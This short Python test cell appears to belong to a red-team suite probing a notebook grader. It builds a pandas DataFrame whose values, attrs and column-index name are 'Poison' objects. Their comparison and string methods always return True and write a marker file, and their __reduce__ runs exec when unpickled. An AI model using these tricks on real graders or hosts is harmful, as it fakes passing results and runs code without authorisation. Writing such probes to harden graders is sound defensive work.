# idea: A true DataFrame is poisoned inside: its blocks, columns and attrs hold objects that act.
# aims at: points|host
# %% before t03
#@ground
class Poison(float):
    def act(self, *a, **k):
        (GROUND / "pwned-frame").write_text("x")
        return True

    __eq__ = __str__ = __repr__ = __lt__ = act
    __hash__ = lambda self: 1
    __reduce__ = lambda self: (exec, (f"open({str(GROUND / 'pwned-frame')!r}, 'w').write('x')",))


# %% t03
cargo = pd.DataFrame(
    {"country": ["KAZ", "KGZ", "TJK"], "tonnes": [Poison(1), Poison(2), Poison(3)]}, dtype=object
)
cargo.attrs["poison"] = Poison(4)
cargo.columns = pd.Index(["country", "tonnes"], name=Poison(5), dtype=object)
cargo.flags.allows_duplicate_labels
